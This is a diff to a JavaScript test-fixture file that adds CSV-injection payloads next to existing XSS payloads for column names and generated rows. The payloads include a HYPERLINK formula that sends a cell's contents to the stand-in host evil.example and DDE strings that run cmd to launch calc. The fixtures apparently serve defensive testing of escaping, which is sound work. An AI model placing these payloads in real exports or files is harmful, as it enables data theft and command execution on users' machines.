@@ -13,6 +13,9 @@ export const XSS = {
   code: "');window.__xss=true;('",
 };
 
+/** What a spreadsheet would run when it opens a CSV download (OWASP « CSV injection »). */
+export const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', "-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
+
 // PostgreSQL column names stay under 63 bytes
 export const HOSTILE_COLUMNS = [
   { name: `région ${XSS.img}`, type: 'string', format: 'string' },
@@ -23,6 +26,7 @@ export const HOSTILE_COLUMNS = [
   { name: 'longitude<i onfocus=window.__xss=true>', type: 'float', format: 'longitude_wgs' },
   { name: `lien ${XSS.script}`, type: 'string', format: 'url' },
   { name: "datum['x'] + (window.__xss=true)", type: 'string', format: 'string' },
+  { name: '=HYPERLINK("http://evil.example")', type: 'string', format: 'string' },
 ];
 
 const CATEGORIES = [XSS.img, XSS.svg, XSS.script, XSS.attr, `Île-de-France ${XSS.template}`];
@@ -33,7 +37,7 @@ export function hostileRows() {
   for (let i = 0; i < 40; i++) {
     const [lat, lon] = POINTS[i % POINTS.length];
     rows.push([CATEGORIES[i % CATEGORIES.length], `${XSS.svg} musée ${i + 1} ${XSS.code}`, 2019 + (i % 5),
-      100 * (i + 1), lat, lon, i % 2 ? XSS.js : `https://example.org/?q=${XSS.attr}`, `${XSS.template} ${i}`]);
+      100 * (i + 1), lat, lon, i % 2 ? XSS.js : `https://example.org/?q=${XSS.attr}`, `${XSS.template} ${i}`, FORMULAS[i % FORMULAS.length]]);
   }
   return rows;
 }
